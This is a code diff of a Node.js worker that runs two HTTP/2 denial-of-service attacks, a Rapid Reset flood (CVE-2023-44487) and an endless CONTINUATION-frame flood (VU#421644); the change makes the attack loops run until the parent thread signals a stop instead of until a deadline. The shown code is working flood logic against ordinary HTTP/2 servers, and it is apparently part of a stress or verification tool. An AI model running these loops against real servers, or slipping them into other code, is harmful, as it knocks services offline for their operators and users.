@@ -4,13 +4,14 @@ import { connect as connectHttp2, constants } from 'node:http2';
 import { connect } from 'node:net';
 import { parentPort, workerData } from 'node:worker_threads';
 
-const { attack, url, seconds } = workerData;
-const deadline = Date.now() + seconds * 1000;
+const { attack, url } = workerData;
+let enough = false;
+parentPort.once('message', () => (enough = true));
 
 /** Opens streams and resets each at once (CVE-2023-44487), one connection after the other. */
 async function rapidReset() {
   const figures = { connections: 0, streams: 0, goneAways: 0 };
-  while (Date.now() < deadline) {
+  while (!enough) {
     figures.connections += 1;
     const session = connectHttp2(url);
     session.on('error', () => {});
@@ -33,7 +34,7 @@ async function rapidReset() {
 /** Opens a stream by HEADERS that does not end, and sends CONTINUATION after CONTINUATION (VU#421644). */
 async function endlessHead() {
   const figures = { connections: 0, bytes: 0, most: 0 };
-  while (Date.now() < deadline) {
+  while (!enough) {
     figures.connections += 1;
     const bytes = await endlessHeadOnce();
     figures.bytes += bytes;
